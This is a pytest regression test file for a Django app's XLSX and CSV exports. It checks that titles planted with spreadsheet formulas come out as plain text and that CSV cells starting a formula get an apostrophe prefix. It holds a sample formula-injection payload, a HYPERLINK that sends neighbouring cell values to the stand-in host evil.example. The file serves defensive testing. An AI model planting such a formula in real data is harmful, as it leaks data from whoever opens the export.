"""A staff member plants a formula in a title; whoever opens the export must see text, not a live formula
(issue 17: `=HYPERLINK("http://evil.example/?d="&C3&D3,"Buka dokumen")` became a link that sends the
neighbouring cells away, in every XLSX export and unprefixed in CSV)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kembar.cooperations.services import activity_create
from kembar.core.dates import DateSpec
from kembar.reports.services import build_bytes
from kembar.testing import make_cooperation

HOSTILE = '=HYPERLINK("http://evil.example/?d="&C3&D3,"Buka dokumen")'
OTHERS = ["@SUM(1+1)", "+1+1", "-2+3", "\t=1+1"]

pytestmark = pytest.mark.django_db


@pytest.fixture
def planted(bandung, staff):
    coop = make_cooperation(bandung, by=staff, ref="planted", title=HOSTILE, status="active")
    for i, text in enumerate(OTHERS):
        activity_create(
            cooperation=coop, by=staff, date=DateSpec.parse(f"2022-0{i + 1}-10"), title=text, kind="meeting"
        )
    return coop


def _body(client, region, name, fmt):
    response = client.get(reverse("export_list", kwargs={"code": region.code, "name": name, "fmt": fmt}))
    assert response.status_code == 200, (name, fmt)
    return b"".join(response.streaming_content) if response.streaming else response.content


def _formulas(workbook_bytes: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(workbook_bytes))
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


@pytest.mark.parametrize("name", ["cooperations", "activities", "deadlines"])
def test_no_export_holds_a_formula_and_the_text_is_kept(client, staff, bandung, planted, name):
    client.force_login(staff)
    body = _body(client, bandung, name, "xlsx")
    assert _formulas(body) == []
    texts = {c for row in load_workbook(io.BytesIO(body)).worksheets[0].iter_rows(values_only=True) for c in row}
    if name == "cooperations":
        assert HOSTILE in texts  # shown as the text it is, not dropped
    if name == "activities":
        assert set(OTHERS) <= texts


@pytest.mark.parametrize("name", ["cooperations", "activities"])
def test_csv_cells_that_would_start_a_formula_begin_with_an_apostrophe(client, staff, bandung, planted, name):
    client.force_login(staff)
    rows = list(csv.reader(io.StringIO(_body(client, bandung, name, "csv").decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    if name == "cooperations":
        assert "'" + HOSTILE in cells
    else:
        assert {"'" + text for text in OTHERS} <= set(cells)


def test_the_annual_report_workbook_holds_no_formula(bandung, staff, planted):
    body = build_bytes(region=bandung, year=2022, format="xlsx")
    assert _formulas(body) == []
    wb = load_workbook(io.BytesIO(body))
    texts = {c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row}
    assert HOSTILE in texts and "\t=1+1" in texts  # the planted texts are there, as text


def test_a_control_character_kept_from_before_is_left_out_of_every_workbook(client, staff, bandung, planted):
    """Records refuse control characters now; one saved before (or by a bulk write) must not make an export or the
    annual report fail: a workbook cannot hold it."""
    from kembar.cooperations.models import Activity, Cooperation

    Cooperation.objects.filter(pk=planted.pk).update(title="Kerja sama\x1b[2J lama")
    # A bell (PostgreSQL keeps no NUL in text, so none can be kept from before there).
    Activity.objects.filter(cooperation=planted).update(title="Rapat\x07 lama")
    client.force_login(staff)
    for name in ("cooperations", "activities"):
        texts = {
            c for row in load_workbook(io.BytesIO(_body(client, bandung, name, "xlsx"))).active.values for c in row
        }
        assert {"Kerja sama[2J lama", "Rapat lama"} & texts, name
    body = build_bytes(region=bandung, year=2022, format="xlsx")
    texts = {
        c for ws in load_workbook(io.BytesIO(body)).worksheets for row in ws.iter_rows(values_only=True) for c in row
    }
    assert "Rapat lama" in texts
